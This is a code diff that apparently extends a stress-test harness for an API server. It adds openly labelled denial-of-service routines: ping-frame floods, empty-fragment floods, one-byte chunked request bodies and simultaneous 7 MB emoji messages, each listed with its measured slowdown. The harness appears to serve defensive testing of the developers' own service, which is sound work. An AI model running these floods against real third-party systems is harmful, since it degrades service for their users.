@@ -26,6 +26,7 @@ HELD_S = 2.0
 NUM_SOCKETS = 600
 NUM_REMEMBERING, REMEMBERED_BYTES = 60, 7_000_000
 NUM_UNFINISHED, UNFINISHED_BYTES = 80, 7_000_000
+NUM_FLOODED, FLOOD_S, NUM_WIDE = 64, 2.0, 8
 ENDS = {"response.completed", "response.incomplete", "response.failed", "error"}
 GIVES_UP_S = 10.0
 """A sender that nobody reads waits that long."""
@@ -168,18 +169,79 @@ async def _remembering_sockets(target: Target) -> None:
                         break
 
 
-async def _unfinished_messages(target: Target) -> None:
-    """Send all but the last fragment of a large message on each of many connections."""
-    frame = b"\x01\xff" + UNFINISHED_BYTES.to_bytes(8, "big") + bytes(4) + b"x" * (UNFINISHED_BYTES - 1)
-    head = (
+def _handshake(target: Target) -> bytes:
+    return (
         f"GET /v1/responses HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {target.attacker_key}\r\n"
         "upgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\n"
         "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
     ).encode()
+
+
+async def _flooded_sockets(target: Target, sent: bytes) -> None:
+    """Send the same frames on many sockets as fast as they are taken; what comes back is thrown away."""
+
+    async def flood() -> None:
+        async with _connection(target.url) as (reader, writer):
+            writer.write(_handshake(target))
+            await reader.readuntil(b"\r\n\r\n")
+            reading = asyncio.create_task(_drop(reader))
+            try:
+                async with asyncio.timeout(FLOOD_S):
+                    while True:
+                        writer.write(sent)
+                        await writer.drain()
+            finally:
+                reading.cancel()
+
+    await asyncio.gather(*(flood() for _ in range(NUM_FLOODED)), return_exceptions=True)
+
+
+async def _control_frames(target: Target) -> None:
+    await _flooded_sockets(target, b"\x89\x80\0\0\0\0" * 10_000)
+
+
+async def _empty_fragments(target: Target) -> None:
+    message = b"\x01\x80\0\0\0\0" + b"\0\x80\0\0\0\0" * 1000 + b"\x80\x80\0\0\0\0"
+    await _flooded_sockets(target, message * 10)
+
+
+async def _one_byte_bodies(target: Target) -> None:
+    """Send bodies in chunks of one byte with a valid key, on many connections."""
+    head = (
+        f"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {target.attacker_key}\r\n"
+        "transfer-encoding: chunked\r\n\r\n"
+    ).encode()
+    pours = (_pour(target.url, head, b"1\r\n \r\n" * 10_000, FLOOD_BYTES) for _ in range(NUM_FLOODED))
+    await asyncio.gather(*pours, return_exceptions=True)
+
+
+async def _wide_messages(target: Target) -> None:
+    """Let many large messages, each of characters of four bytes, end at the same time."""
+    text = "\U0001f600" * (UNFINISHED_BYTES // 4)
+    frame = b"\x81\xff" + len(text.encode()).to_bytes(8, "big") + bytes(4) + text.encode()
+    async with contextlib.AsyncExitStack() as held:
+        writers = []
+        for _ in range(NUM_WIDE):
+            reader, writer = await held.enter_async_context(_connection(target.url))
+            writer.write(_handshake(target))
+            await reader.readuntil(b"\r\n\r\n")
+            writer.write(frame[:-1])
+            async with asyncio.timeout(GIVES_UP_S):
+                await writer.drain()
+            writers.append(writer)
+        await asyncio.sleep(0.5)
+        for writer in writers:
+            writer.write(frame[-1:])
+        await asyncio.sleep(1.0)
+
+
+async def _unfinished_messages(target: Target) -> None:
+    """Send all but the last fragment of a large message on each of many connections."""
+    frame = b"\x01\xff" + UNFINISHED_BYTES.to_bytes(8, "big") + bytes(4) + b"x" * (UNFINISHED_BYTES - 1)
     async with contextlib.AsyncExitStack() as held:
         for _ in range(NUM_UNFINISHED):
             reader, writer = await held.enter_async_context(_connection(target.url))
-            writer.write(head)
+            writer.write(_handshake(target))
             await reader.readuntil(b"\r\n\r\n")
             writer.write(frame)
             async with asyncio.timeout(GIVES_UP_S):
@@ -204,6 +266,30 @@ ATTACKS = (
         name="unfinished-messages",
         about="80 WebSockets with a message of 7 MB each that lacks its last byte.",
         strike=_unfinished_messages,
+        short_s=2.5,
+    ),
+    Attack(
+        name="control-frames",
+        about="64 WebSockets send empty pings without pause: TTFT of 1.9 s, and /health took as long.",
+        strike=_control_frames,
+        short_s=2.5,
+    ),
+    Attack(
+        name="empty-fragments",
+        about="64 WebSockets send messages of a thousand empty fragments without pause: TTFT of 1.8 s.",
+        strike=_empty_fragments,
+        short_s=2.5,
+    ),
+    Attack(
+        name="one-byte-bodies",
+        about="64 bodies with a key in chunks of one byte, each parsed for a turn's time in every turn: TTFT of 0.5 s.",
+        strike=_one_byte_bodies,
+        short_s=2.5,
+    ),
+    Attack(
+        name="wide-messages",
+        about="Eight messages of 7 MB of emojis end in the same moment, and were decoded in one turn: gaps of 0.4 s.",
+        strike=_wide_messages,
         short_s=2.5,
     ),
     Attack(
